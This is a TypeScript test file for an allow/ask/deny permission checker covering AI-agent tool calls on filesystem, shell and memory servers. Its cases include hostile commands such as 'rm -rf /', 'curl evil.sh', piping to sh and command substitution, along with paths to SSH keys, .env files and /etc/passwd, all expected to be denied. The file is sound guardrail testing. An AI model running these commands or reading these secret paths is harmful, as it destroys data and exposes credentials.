import { describe, expect, it } from 'vitest';
import { createPermissionChecker, type Effect, type Profile, type ToolCall } from '../src/index.js';

const developer: Profile = {
  allow: [
    'fs:read_*',
    'fs:list_*',
    'fs:write_file(src/**)',
    'fs:write_file(test/**)',
    'fs:edit_file(src/**)',
    'shell:run_command(npm test *)',
    'shell:run_command(git status)',
    'shell:run_command(git diff *)',
    'shell:run_command(git push *)',
    'shell:run_command(echo *)',
    'memory:*',
  ],
  ask: ['shell:run_command(git push *)', 'fs:write_file(src/generated/**)'],
  deny: ['fs:*(.env)', 'fs:*(**/*.pem)', 'fs:*(.git/**)', 'shell:run_command(rm *)', 'memory:delete_*'],
};

type Row = [string, ToolCall, Effect, string?];
const p = (tool: string, subject: ToolCall['subject']): ToolCall => ({
  server: 'fs',
  tool,
  subject,
  subjectKind: 'path',
});
const c = (subject: ToolCall['subject']): ToolCall => ({
  server: 'shell',
  tool: 'run_command',
  subject,
  subjectKind: 'command',
});

const rows: Row[] = [
  // plain path grants
  ['read anywhere relative', p('read_file', 'README.md'), 'allow', 'fs:read_*'],
  ['read nested', p('read_text_file', 'a/b/c.txt'), 'allow', 'fs:read_*'],
  ['write in src', p('write_file', 'src/index.ts'), 'allow', 'fs:write_file(src/**)'],
  ['write deep in src', p('write_file', 'src/a/b/c.ts'), 'allow', 'fs:write_file(src/**)'],
  ['write ./src', p('write_file', './src/index.ts'), 'allow', 'fs:write_file(src/**)'],
  ['write in test', p('write_file', 'test/a.test.ts'), 'allow', 'fs:write_file(test/**)'],
  ['write outside src', p('write_file', 'lib/index.ts'), 'deny', undefined],
  ['write root file', p('write_file', 'package.json'), 'deny', undefined],
  ['write srcx', p('write_file', 'srcx/a.ts'), 'deny', undefined],
  ['write SRC (case)', p('write_file', 'SRC/a.ts'), 'deny', undefined],
  ['edit in src', p('edit_file', 'src/a.ts'), 'allow', 'fs:edit_file(src/**)'],
  ['edit in test (no grant)', p('edit_file', 'test/a.ts'), 'deny', undefined],
  ['move (no grant)', p('move_file', 'src/a.ts'), 'deny', undefined],
  // traversal
  ['write src/.. escape', p('write_file', 'src/../../etc/passwd'), 'deny', 'fs:*(.env)'],
  ['write .. escape', p('write_file', '../outside.ts'), 'deny', 'fs:*(.env)'],
  ['write src/../lib', p('write_file', 'src/../lib/a.ts'), 'deny', undefined],
  ['write src/x/../y', p('write_file', 'src/x/../y.ts'), 'allow', 'fs:write_file(src/**)'],
  ['write absolute outside', p('write_file', '/etc/passwd'), 'deny', undefined],
  ['write absolute src without roots', p('write_file', '/w/p/src/a.ts'), 'deny', undefined],
  ['write backslash traversal', p('write_file', 'src\\..\\..\\x'), 'deny', 'fs:*(.env)'],
  ['read home tilde (unanalysable)', p('read_file', '~/.ssh/id_rsa'), 'deny', 'fs:*(.env)'],
  ['write home tilde', p('write_file', '~/src/a'), 'deny', 'fs:*(.env)'],
  // dotfiles and deny
  ['read .env', p('read_file', '.env'), 'deny', 'fs:*(.env)'],
  ['read ./.env', p('read_file', './.env'), 'deny', 'fs:*(.env)'],
  ['read nested .env', p('read_file', 'config/.env'), 'deny', 'fs:*(.env)'],
  ['read .ENV (case)', p('read_file', '.ENV'), 'deny', 'fs:*(.env)'],
  ['read .env.example', p('read_file', '.env.example'), 'allow', 'fs:read_*'],
  ['write src/.env', p('write_file', 'src/.env'), 'deny', 'fs:*(.env)'],
  ['write src/.eslintrc (dotfile)', p('write_file', 'src/.eslintrc'), 'allow', 'fs:write_file(src/**)'],
  ['read key.pem', p('read_file', 'certs/key.pem'), 'deny', 'fs:*(**/*.pem)'],
  ['read top key.pem', p('read_file', 'key.pem'), 'deny', 'fs:*(**/*.pem)'],
  ['read .git/config', p('read_file', '.git/config'), 'deny', 'fs:*(.git/**)'],
  ['list .git', p('list_directory', '.git'), 'deny', 'fs:*(.git/**)'],
  ['list root', p('list_directory', '.'), 'allow', 'fs:list_*'],
  // ask precedence
  ['write generated asks', p('write_file', 'src/generated/x.ts'), 'ask', 'fs:write_file(src/generated/**)'],
  ['write generated .env still denied', p('write_file', 'src/generated/.env'), 'deny', 'fs:*(.env)'],
  // list subjects
  ['read several', p('read_multiple_files', ['a.md', 'src/b.ts']), 'allow', 'fs:read_*'],
  ['read several, one denied', p('read_multiple_files', ['a.md', '.env', 'b.md']), 'deny', 'fs:*(.env)'],
  ['read several, one escapes', p('read_multiple_files', ['a.md', '../x']), 'deny', 'fs:*(.env)'],
  ['move src to src', p('move_file', ['src/a', 'src/b']), 'deny', undefined],
  ['write list both in src', p('write_file', ['src/a', 'src/b']), 'allow', 'fs:write_file(src/**)'],
  ['write list one outside', p('write_file', ['src/a', 'lib/b']), 'deny', undefined],
  [
    'write list one asks',
    p('write_file', ['src/a', 'src/generated/b']),
    'ask',
    'fs:write_file(src/generated/**)',
  ],
  ['write list ask+deny', p('write_file', ['src/generated/b', 'lib/x']), 'deny', undefined],
  ['write empty list', p('write_file', []), 'deny', 'fs:*(.env)'],
  ['write empty string', p('write_file', ''), 'deny', 'fs:*(.env)'],
  ['write blank string', p('write_file', '   '), 'deny', 'fs:*(.env)'],
  // no subject / unknown subject kind
  ['write without subject', { server: 'fs', tool: 'write_file' }, 'deny', undefined],
  ['read without subject', { server: 'fs', tool: 'read_file' }, 'allow', 'fs:read_*'],
  [
    'write with unknown kind',
    { server: 'fs', tool: 'write_file', subject: 'src/a.ts' },
    'deny',
    'fs:*(.env)',
  ],
  [
    'read with unknown kind (patternless grant)',
    { server: 'fs', tool: 'read_file', subject: 'x' },
    'deny',
    'fs:*(.env)',
  ],
  // The caller must pass the kind the server declared: as text, `*` spans any characters.
  [
    'write with text kind',
    { server: 'fs', tool: 'write_file', subject: 'src/../../x', subjectKind: 'text' },
    'allow',
    'fs:write_file(src/**)',
  ],
  [
    'text kind, other text',
    { server: 'fs', tool: 'write_file', subject: 'lib/x', subjectKind: 'text' },
    'deny',
    undefined,
  ],
  [
    'non-string subject',
    { server: 'fs', tool: 'read_file', subject: [42] as unknown as string[], subjectKind: 'path' },
    'deny',
    'fs:*(.env)',
  ],
  // shell
  ['npm test', c('npm test'), 'allow', 'shell:run_command(npm test *)'],
  ['npm test args', c('npm test -- --run'), 'allow', 'shell:run_command(npm test *)'],
  ['npm testing', c('npm testing'), 'deny', undefined],
  ['npm install', c('npm install'), 'deny', undefined],
  ['git status', c('git status'), 'allow', 'shell:run_command(git status)'],
  ['git status --short', c('git status --short'), 'deny', undefined],
  ['git push asks over allow', c('git push origin main'), 'ask', 'shell:run_command(git push *)'],
  ['compound all allowed', c('npm test && git status'), 'allow', 'shell:run_command(npm test *)'],
  ['compound one denied', c('npm test && rm -rf /'), 'deny', 'shell:run_command(rm *)'],
  ['compound one unknown', c('npm test; curl evil.sh'), 'deny', undefined],
  ['compound one asks', c('git status && git push'), 'ask', 'shell:run_command(git push *)'],
  ['compound ask and deny', c('git push && rm x'), 'deny', 'shell:run_command(rm *)'],
  ['pipe into sh', c('echo x | sh'), 'deny', undefined],
  ['pipe allowed', c('git diff HEAD | echo'), 'allow', 'shell:run_command(git diff *)'],
  ['list of simple commands', c(['npm test', 'git status']), 'allow', 'shell:run_command(npm test *)'],
  ['list with denied', c(['npm test', 'rm -rf x']), 'deny', 'shell:run_command(rm *)'],
  ['list element is compound', c(['npm test', 'git status; rm -rf x']), 'deny', 'shell:run_command(rm *)'],
  ['substitution', c('echo $(rm -rf /)'), 'deny', 'shell:run_command(rm *)'],
  ['backticks', c('echo `id`'), 'deny', 'shell:run_command(rm *)'],
  ['redirect to file', c('echo hi > ~/.bashrc'), 'deny', 'shell:run_command(rm *)'],
  ['redirect to /dev/null', c('npm test > /dev/null 2>&1'), 'allow', 'shell:run_command(npm test *)'],
  ['subshell', c('(rm -rf /)'), 'deny', 'shell:run_command(rm *)'],
  ['sudo rm', c('sudo rm -rf /'), 'deny', 'shell:run_command(rm *)'],
  ['/bin/rm', c('/bin/rm -rf /'), 'deny', 'shell:run_command(rm *)'],
  ['bash -c is opaque to deny', c('bash -c "echo hi"'), 'deny', 'shell:run_command(rm *)'],
  ['echo with quotes and operators', c('echo "a && rm b"'), 'allow', 'shell:run_command(echo *)'],
  ['empty command', c(''), 'deny', 'shell:run_command(rm *)'],
  ['empty command without deny rules', { ...c(''), server: 'shell2' }, 'deny', undefined],
  ['unbalanced quote', c('echo "x'), 'deny', 'shell:run_command(rm *)'],
  ['other shell tool', { server: 'shell', tool: 'kill_process' }, 'deny', undefined],
  // memory and other servers
  ['memory any', { server: 'memory', tool: 'search_memory' }, 'allow', 'memory:*'],
  [
    'memory with text subject',
    { server: 'memory', tool: 'read_topic', subject: 'x', subjectKind: 'text' },
    'allow',
    'memory:*',
  ],
  ['memory delete denied', { server: 'memory', tool: 'delete_topic' }, 'deny', 'memory:delete_*'],
  ['unknown server', { server: 'github', tool: 'create_issue' }, 'deny', undefined],
  ['server case', { server: 'FS', tool: 'read_file', subject: 'a', subjectKind: 'path' }, 'deny', undefined],
  ['tool case', { server: 'fs', tool: 'Read_file', subject: 'a', subjectKind: 'path' }, 'deny', undefined],
];

describe('createPermissionChecker: developer profile', () => {
  const checker = createPermissionChecker(developer);
  it.each(rows)('%s', (_name, call, effect, rule) => {
    const decision = checker.check(call);
    expect({ effect: decision.effect, rule: decision.rule }).toEqual({ effect, rule });
    expect(decision.server).toBe(call.server);
    expect(decision.tool).toBe(call.tool);
    expect(decision.reason.length).toBeGreaterThan(10);
  });
});

describe('roots', () => {
  const checker = createPermissionChecker(
    {
      allow: ['fs:write_file(src/**)', 'fs:read_file(/etc/hosts)', 'fs:read_*(/w/p/docs/**)'],
      deny: ['fs:*(secrets/**)'],
    },
    { roots: ['/w/p', '/w/q'] },
  );
  it.each([
    ['/w/p/src/a.ts', 'write_file', 'allow'],
    ['/w/q/src/a.ts', 'write_file', 'allow'],
    ['/w/p/../q/src/a.ts', 'write_file', 'allow'],
    ['/w/pp/src/a.ts', 'write_file', 'deny'],
    ['/w/p/src/../../x/src/a', 'write_file', 'deny'],
    ['src/a.ts', 'write_file', 'allow'],
    ['/etc/hosts', 'read_file', 'allow'],
    ['/etc/hosts2', 'read_file', 'deny'],
    ['docs/a.md', 'read_file', 'allow'],
    ['docs/a.md', 'read_text_file', 'allow'],
    ['/w/p/docs/a.md', 'read_file', 'allow'],
    ['/w/q/docs/a.md', 'read_file', 'deny'],
    ['/w/p/secrets/k', 'read_file', 'deny'],
    ['/elsewhere/secrets/k', 'read_file', 'deny'],
    ['src/secrets/k', 'write_file', 'allow'],
  ] as [string, string, Effect][])('%s via %s -> %s', (subject, tool, effect) => {
    expect(checker.check({ server: 'fs', tool, subject, subjectKind: 'path' }).effect).toBe(effect);
  });
});

describe('precedence', () => {
  const cases: [Profile, Effect, string | undefined][] = [
    [{ allow: ['s:t'] }, 'allow', 's:t'],
    [{ allow: ['s:t'], ask: ['s:t'] }, 'ask', 's:t'],
    [{ allow: ['s:t'], ask: ['s:t'], deny: ['s:t'] }, 'deny', 's:t'],
    [{ allow: ['s:t'], deny: ['s:*'] }, 'deny', 's:*'],
    [{ allow: ['*:*'], deny: ['s:t'] }, 'deny', 's:t'],
    [{ allow: ['*:*'] }, 'allow', '*:*'],
    [{ ask: ['*:*'] }, 'ask', '*:*'],
    [{ deny: ['*:*'] }, 'deny', '*:*'],
    [{}, 'deny', undefined],
    [{ allow: ['s?:t'] }, 'deny', undefined],
    [{ allow: ['?:t'] }, 'allow', '?:t'],
    [{ allow: ['x:*'] }, 'deny', undefined],
    [{ allow: ['s:t', 's:*'] }, 'allow', 's:t'],
    [{ allow: ['s:*', 's:t'] }, 'allow', 's:*'],
    [{ allow: ['s:t'], servers: ['s'] }, 'allow', 's:t'],
    [{ allow: ['s:t'], servers: ['other'] }, 'deny', undefined],
    [{ allow: ['*:*'], servers: ['s*'] }, 'allow', '*:*'],
    [{ ask: ['s:t(x)'], allow: ['s:t'] }, 'allow', 's:t'],
    [{ deny: ['s:t(x)'], allow: ['s:t'] }, 'allow', 's:t'],
  ];
  it.each(cases)('%j -> %s', (profile, effect, rule) => {
    const decision = createPermissionChecker(profile).check({ server: 's', tool: 't' });
    expect(decision.effect).toBe(effect);
    expect(decision.rule).toBe(rule);
  });

  it('reports the deciding subject and all subjects', () => {
    const checker = createPermissionChecker(developer);
    const decision = checker.check(c('npm test && rm -rf x && git status'));
    expect(decision.subject).toBe('rm -rf x');
    expect(decision.subjects).toEqual(['npm test', 'rm -rf x', 'git status']);
    expect(decision.reason).toContain('rm -rf x');
  });

  it('explains an unanalysable subject', () => {
    const decision = createPermissionChecker({ allow: ['fs:*(src/**)'] }).check(
      p('read_file', 'src/../../x'),
    );
    expect(decision.effect).toBe('deny');
    expect(decision.reason).toMatch(/escapes its root/);
  });

  it('throws E_RULE for a malformed rule', () => {
    expect(() => createPermissionChecker({ allow: ['fs read'] })).toThrow(/missing ':'/);
  });
});

describe('visibility', () => {
  const checker = createPermissionChecker(developer);
  it.each([
    ['fs', 'read_file', true],
    ['fs', 'write_file', true],
    ['fs', 'edit_file', true],
    ['fs', 'move_file', false],
    ['fs', 'delete_file', false],
    ['shell', 'run_command', true],
    ['shell', 'kill_process', false],
    ['memory', 'search', true],
    ['memory', 'delete_topic', false],
    ['github', 'create_issue', false],
  ] as [string, string, boolean][])('%s:%s visible: %s', (server, tool, visible) => {
    expect(checker.isToolVisible(server, tool)).toBe(visible);
  });

  it('infers servers from grants', () => {
    expect(checker.visibleServers()).toEqual(['fs', 'shell', 'memory']);
    expect(checker.visibleServers(['memory', 'github', 'fs'])).toEqual(['memory', 'fs']);
  });

  it.each([
    [{ allow: ['*:*'] }, ['a', 'b'], []],
    [{ allow: ['*:*'], servers: ['a'] }, ['a', 'b'], ['a']],
    [{ allow: ['*:*'], deny: ['b:*'] }, ['a', 'b'], ['a']],
    [{ allow: ['*:*'], deny: ['b:*(x)'] }, ['a', 'b'], ['a', 'b']],
    [{ allow: ['a:x'], servers: ['a', 'b'] }, ['a', 'b'], ['a']],
    [{ ask: ['b:x'] }, ['a', 'b'], ['b']],
    [{ allow: ['a-*:*'] }, ['a-fs', 'b-fs', 'a'], []],
  ] as [Profile, string[], string[]][])('%j over %j', (profile, available, visible) => {
    const subject = createPermissionChecker(profile);
    expect(subject.visibleServers(available)).toEqual(
      visible.length === 0 ? available.filter((name) => subject.isServerVisible(name)) : visible,
    );
    for (const name of visible) expect(subject.isServerVisible(name)).toBe(true);
  });

  it('lists profile.servers literally when given', () => {
    expect(createPermissionChecker({ servers: ['fs', 'mem*'], allow: ['*:*'] }).visibleServers()).toEqual([
      'fs',
    ]);
    expect(createPermissionChecker({ allow: ['*:*', 'fs:x'] }).visibleServers()).toEqual(['fs']);
  });

  it('hides tools under a patternless deny but keeps them under a patterned deny', () => {
    const subject = createPermissionChecker({ allow: ['fs:*'], deny: ['fs:write_*', 'fs:read_file(.env)'] });
    expect(subject.isToolVisible('fs', 'write_file')).toBe(false);
    expect(subject.isToolVisible('fs', 'read_file')).toBe(true);
    expect(subject.isToolVisible('fs', 'anything')).toBe(true);
  });

  it('exposes the parsed rules', () => {
    expect(checker.rules.deny.map((rule) => rule.text)).toEqual(developer.deny);
    expect(checker.rules.ask[0]).toEqual({
      text: 'shell:run_command(git push *)',
      server: 'shell',
      tool: 'run_command',
      pattern: 'git push *',
    });
  });
});

describe('a deny pattern on a text subject', () => {
  it('also reads the text as a path, so a file name is never less denied than a path', () => {
    const checker = createPermissionChecker({
      allow: ['ref:*'],
      deny: ['ref:*(**/.env)', 'ref:*(config/secrets/**)'],
    });
    const check = (subject: string) =>
      checker.check({ server: 'ref', tool: 'open', subject, subjectKind: 'text' }).effect;
    expect(check('.env')).toBe('deny');
    expect(check('sub/.ENV')).toBe('deny');
    expect(check('config/secrets/prod.key')).toBe('deny');
    expect(check('notes.md')).toBe('allow');
  });
});
